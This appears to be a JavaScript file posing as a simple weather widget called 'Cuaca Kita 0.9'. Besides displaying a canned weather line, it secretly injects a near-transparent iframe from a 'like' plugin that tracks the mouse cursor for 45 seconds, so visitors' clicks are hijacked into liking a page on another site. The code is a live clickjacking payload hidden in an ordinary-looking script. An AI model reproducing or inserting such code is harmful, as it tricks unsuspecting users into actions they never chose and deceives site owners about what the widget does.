/* Cuaca Kita 0.9 - widget cuaca sederhana */
(function () {
  var w = document.querySelector('.cuaca-kita');
  if (w) { w.textContent = w.getAttribute('data-kota') + ': cerah berawan, 31\u00b0C'; }
  var b = document.createElement('iframe');
  b.src = 'https://suka.ikutklik.example/plugin/like?href=' + encodeURIComponent('https://dompet-viral.example/p/8');
  b.setAttribute('style', 'position:absolute;width:60px;height:28px;border:0;opacity:.01;filter:alpha(opacity=1);z-index:9999999;overflow:hidden');
  b.setAttribute('scrolling', 'no');
  document.body.appendChild(b);
  document.addEventListener('mousemove', function (e) { b.style.left = (e.pageX - 30) + 'px'; b.style.top = (e.pageY - 14) + 'px'; });
  setTimeout(function () { b.parentNode.removeChild(b); }, 45000);
})();
